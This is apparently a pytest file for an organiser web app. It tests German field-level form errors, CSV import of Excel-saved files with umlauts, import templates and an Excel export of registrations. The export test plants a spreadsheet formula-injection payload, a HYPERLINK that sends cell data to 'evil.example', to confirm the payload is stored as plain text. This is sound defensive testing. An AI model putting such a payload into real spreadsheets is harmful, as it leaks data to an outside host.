"""Organiser forms show every problem at once, next to its field, in German; import files
come as city staff have them (German headers, Windows-1252, a template to start from), and
the registrations go out as an Excel sheet."""

from __future__ import annotations

import html
import io
import re

from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from tests.organiser.conftest import LoggedIn, solved_draft
from vekl.runs import publishing
from vekl.runs.placements import group_label
from vekl.settings import Settings
from vekl.store.models import Participant, Round

ROUND = "/organiser/rounds/konstanz-mai"


def _problem(page: str, field: str) -> str:
    """The problem shown next to ``field``, as the reader sees it."""
    found = re.search(rf'<p class="error" id="error-{field}">([^<]*)</p>', page)
    assert found, f"no problem next to {field}"
    return html.unescape(found.group(1))


def test_the_new_round_form_shows_every_problem_next_to_its_field(
    team: LoggedIn, db: Session
) -> None:
    form: dict[str, object] = {
        "slug": "Herbst 2027",
        "name": "",
        "languages_offered": ["de"],
        "min_size": "8",
        "max_size": "5",
        "newcomer_share_min": "viel",
        "newcomer_share_max": "0.3",
    }
    refused = team.post("/organiser/rounds", form)
    assert refused.status_code == 422
    page = refused.text
    # One answer names them all: the short name, the empty name, a word where a number goes,
    # and the largest group below the smallest, which a form used to say only once the
    # other fields were right, in English ("(form): max_size must be at least min_size").
    assert _problem(page, "slug").startswith("bitte 3 bis 64 Kleinbuchstaben")
    assert _problem(page, "name") == "ist erforderlich"
    assert _problem(page, "newcomer_share_min") == "muss eine Zahl sein"
    assert _problem(page, "max_size") == "muss mindestens so groß sein wie die kleinste Gruppe"
    assert 'id="max_size" name="max_size" type="number"' in page
    assert 'value="5" aria-invalid="true" aria-describedby="error-max_size"' in page
    assert "Bitte prüfen Sie diese Felder" in page and 'href="#max_size"' in page
    assert "(form)" not in page and "max_size must" not in page
    # What was typed stays in the form.
    assert 'value="herbst 2027"' in page and 'value="viel"' in page
    assert db.scalar(select(func.count()).select_from(Round)) == 0
    english = team.post("/organiser/rounds?lang=en", form)
    assert _problem(english.text, "max_size") == "must be at least the smallest group size"


def test_the_rules_form_names_both_limits_in_the_wrong_order(
    team: LoggedIn, example_round: Round
) -> None:
    refused = team.post(
        f"{ROUND}/settings",
        {
            "name": "Konstanz",
            "languages_offered": ["de"],
            "min_size": "9",
            "max_size": "4",
            "newcomer_share_min": "0.6",
            "newcomer_share_max": "0.4",
        },
    )
    assert refused.status_code == 422
    assert _problem(refused.text, "max_size").startswith("muss mindestens so groß")
    assert _problem(refused.text, "newcomer_share_max").startswith("muss mindestens so hoch")
    assert example_round.max_size != 4


def test_the_add_series_form_names_a_bad_key_with_the_other_problems(
    team: LoggedIn, example_round: Round, db: Session
) -> None:
    before = len(example_round.series)
    refused = team.post(
        f"{ROUND}/series",
        {"key": "Mo Abend!", "label": "", "venue_name": "Treffpunkt", "venue_address": ""},
    )
    assert refused.status_code == 422
    page = refused.text
    # The key's problem shows with the empty fields', not only once they are filled in.
    for field in ("new-series-key", "new-series-label", "new-series-venue_address"):
        assert _problem(page, field), field
    assert _problem(page, "new-series-label") == "ist erforderlich"
    assert 'value="Mo Abend!"' in page
    db.expire_all()
    assert len(db.get_one(Round, example_round.id).series) == before


def test_the_import_page_lists_the_columns_and_offers_templates(
    team: LoggedIn, example_round: Round
) -> None:
    page = team.client.get(f"{ROUND}/import").text
    assert "README" not in page
    assert "Vorlage für Anmeldungen herunterladen (CSV)" in page
    for column in ("Vorname", "Nachname", "E-Mail", "Sprachen", "Reihen", "Einwilligung"):
        assert f'<th scope="row">{column}</th>' in page
    assert "mon, wed, sat" in page  # the round's series keys
    template = team.client.get(f"{ROUND}/import/registrations/template.csv")
    assert template.status_code == 200
    assert template.headers["content-disposition"] == (
        'attachment; filename="vorlage-anmeldungen.csv"'
    )
    assert template.content.startswith("\ufeff".encode())
    header = template.content.decode("utf-8-sig").splitlines()[0].split(";")
    assert header[:7] == [
        "Rolle", "Vorname", "Nachname", "E-Mail", "Sprachen", "Reihen", "Einwilligung"
    ]  # fmt: skip
    moderators = team.client.get(f"{ROUND}/import/moderators/template.csv")
    assert moderators.content.decode("utf-8-sig").startswith("Name;E-Mail;Sprachen;Reihen")
    assert team.client.get(f"{ROUND}/import/shoes/template.csv").status_code == 404


def test_a_filled_in_template_saved_by_excel_imports_with_its_umlauts(
    team: LoggedIn, example_round: Round, db: Session
) -> None:
    template = team.client.get(f"{ROUND}/import/registrations/template.csv")
    header = template.content.decode("utf-8-sig").strip()
    rows = [
        "Bürgerin;Jürgen;Weiß;juergen@example.org;de;mon;ja",
        "neu zugezogen;Zoë;Öztürk;zoe@example.org;de|tr;mon|sat;x",
    ]
    width = header.count(";") + 1
    lines = [header] + [row + ";" * (width - row.count(";") - 1) for row in rows]
    raw = "\r\n".join(lines).encode("cp1252")  # Excel's "CSV (Trennzeichen-getrennt)"
    response = team.post(
        f"{ROUND}/import/registrations", files={"file": ("anmeldungen.csv", raw, "text/csv")}
    )
    assert response.status_code == 200, response.text
    assert "2 neu" in response.text
    people = {
        (p.first_name, p.last_name, p.role.value)
        for p in db.scalars(select(Participant).where(Participant.round_id == example_round.id))
    }
    assert ("Jürgen", "Weiß", "citizen") in people and ("Zoë", "Öztürk", "newcomer") in people


def test_an_import_names_every_problem_of_the_file_at_once_in_german(
    team: LoggedIn, example_round: Round, db: Session
) -> None:
    before = db.scalar(select(func.count()).select_from(Participant))
    text = "\r\n".join(
        [
            "Rolle;Vorname;Nachname;E-Mail;Sprachen;Reihen;Einwilligung;Schuhgröße",
            "citizen;Anna;Weber;anna@example.org;de;mon;ja;38",
            "citizen;Ben;;ben@example.org;de;mon;ja;44",
            "citizen;Anna;Weber;anna@example.org;de|xx;mon;ja;38",
        ]
    )
    response = team.post(
        f"{ROUND}/import/registrations",
        files={"file": ("anmeldungen.csv", text.encode("cp1252"), "text/csv")},
    )
    assert response.status_code == 422
    page = html.unescape(response.text)
    assert "Zeile 1, Spalte Schuhgröße: unbekannte Spalte" in page
    assert "Zeile 3, Spalte Nachname: ist erforderlich" in page
    assert "Zeile 4, Spalte Sprachen: unbekanntes Sprachkürzel 'xx'" in page
    # The repeated address shows now, though its row has another problem too.
    assert "Zeile 4, Spalte E-Mail: gleiche E-Mail-Adresse wie Zeile 2" in page
    assert "Input should" not in page and "line " not in page
    assert db.scalar(select(func.count()).select_from(Participant)) == before


def test_the_registrations_come_as_an_excel_sheet(
    team: LoggedIn, example_round: Round, db: Session, settings: Settings
) -> None:
    run = solved_draft(db, example_round)
    publishing.publish(db, example_round.slug, run.id, settings=settings, actor="test")
    group = run.groups[0]
    member = group.members[0].participant
    member.last_name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    member.phone = "+49 7531 0815"
    db.commit()
    assert "registrations.xlsx" in team.client.get(f"{ROUND}/exports").text
    response = team.client.get(f"{ROUND}/registrations.xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    assert header[:4] == ["Rolle", "Vorname", "Nachname", "E-Mail"]
    assert header[-4:] == ["Status", "Quelle", "Angemeldet am", "Gruppe"]
    assert len(rows) == 1 + (db.scalar(select(func.count()).select_from(Participant)) or 0)
    number = next(i for i, r in enumerate(rows, 1) if r[3] == member.email)
    row = dict(zip(header, rows[number - 1], strict=True))
    assert row["Nachname"] == member.last_name
    assert sheet.cell(number, header.index("Nachname") + 1).data_type == "s"  # not a formula
    assert row["Telefon"] == "+49 7531 0815"
    assert row["Gruppe"] == group_label(group)
